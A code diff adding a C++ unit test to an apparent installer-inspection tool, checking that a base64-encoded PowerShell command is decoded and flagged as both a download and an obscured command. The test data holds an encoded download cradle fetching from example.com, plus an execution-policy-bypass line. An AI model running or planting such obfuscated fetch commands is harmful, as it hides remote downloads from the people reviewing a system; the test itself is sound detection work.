@@ -7,6 +7,7 @@
 
 #include "install/conclude.h"
 #include "install/windows/command_line.h"
+#include "install/windows/encoded.h"
 
 namespace countersign::install {
 namespace {
@@ -71,6 +72,28 @@ TEST(Commands, ThatAreEncodedAreFound) {
         "powershell -ex bypass a.ps1", "a.exe -e b"}) {
     EXPECT_TRUE(FindingsOn(line).empty()) << line;
   }
+}
+
+TEST(Commands, AreFoundInWhatIsEncoded) {
+  // (New-Object Net.WebClient).DownloadString('http://example.com/a')
+  const std::string line =
+      "powershell -e "
+      "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4A"
+      "RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUAeABhAG0A"
+      "cABsAGUALgBjAG8AbQAvAGEAJwApAA==";
+  model::Inspection inspection;
+  inspection.artifacts.resize(1);
+  Action action;
+  TakeCommandLine(line, action);
+  AddDecodedCommands(action);
+  inspection.actions = {action};
+  Conclude(inspection);
+  ASSERT_EQ(inspection.findings.size(), 2U);
+  EXPECT_EQ(inspection.findings[0].id, "install.downloads");
+  EXPECT_EQ(inspection.findings[1].id, "install.obscured_command");
+  EXPECT_NE(inspection.findings[1].message.find("it reads: \"(New-Object"),
+            std::string::npos)
+      << inspection.findings[1].message;
 }
 
 TEST(Commands, ThatRunWhatTheyFetchAreFound) {
